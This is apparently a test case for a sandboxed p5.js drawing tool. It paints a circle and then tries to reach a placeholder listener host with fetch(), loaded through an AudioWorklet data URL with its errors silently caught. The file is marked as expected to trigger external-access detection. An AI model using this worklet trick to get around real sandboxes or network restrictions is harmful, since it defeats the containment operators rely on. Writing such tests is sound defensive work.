// tries: a worklet of sound
// expect: external_access, painting
function setup() {
  createCanvas(600, 600, WEBGL);
  noLoop();
}

function draw() {
  background("#faf5ea");
  brush.noStroke();
  brush.fill("#d75f4c", 180);
  brush.circle(0, 0, 120, 0.3);
  try {
    const sound = new OfflineAudioContext(1, 128, 44100);
    sound.audioWorklet.addModule("data:text/javascript,fetch('http://@LISTENER@/worklet')").catch(() => {});
  } catch {}
}
